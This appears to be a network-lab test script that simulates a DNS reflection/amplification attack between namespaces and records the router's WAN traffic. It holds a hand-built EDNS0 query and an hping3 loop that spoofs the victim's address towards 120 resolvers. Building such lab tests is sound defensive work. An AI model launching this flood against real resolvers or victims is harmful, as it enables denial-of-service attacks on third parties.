#!/bin/bash
# DNS reflection, the real thing: the attacker asks 120 open resolvers for a large
# TXT record in the victim's name (hping3 -a); unbound answers the victim, who
# never asked, with some 2.6 kB in two fragments.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
outside reflectors $(range 198.51.100. 20 139)
inside victim 10.20.0.10
txt=$(printf 'a%.0s' $(seq 250))
resolver reflectors "local-zone: big.example. static" "max-udp-size: 4096" "edns-buffer-size: 4096" \
	"$(for i in $(seq 10 19); do echo "local-data: 'big.example. TXT \"$i$txt\"'"; done)"
# Query: id 0x2a2a, RD, one question (big.example TXT IN), EDNS0 with 4096 bytes.
printf '\x2a\x2a\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >$tmp/query
record router wan -s 128
for i in $(seq 20 139); do
	ip netns exec "$net-attacker" timeout 8 hping3 -q -n -I eth0 --udp -a 10.20.0.10 -s $((30000 + i)) -k -p 53 \
		-d 40 -E $tmp/query -i u120000 -c 30 198.51.100.$i >/dev/null 2>&1 &
	workers="${workers:-} $!"
done
wait $workers || true
recorded
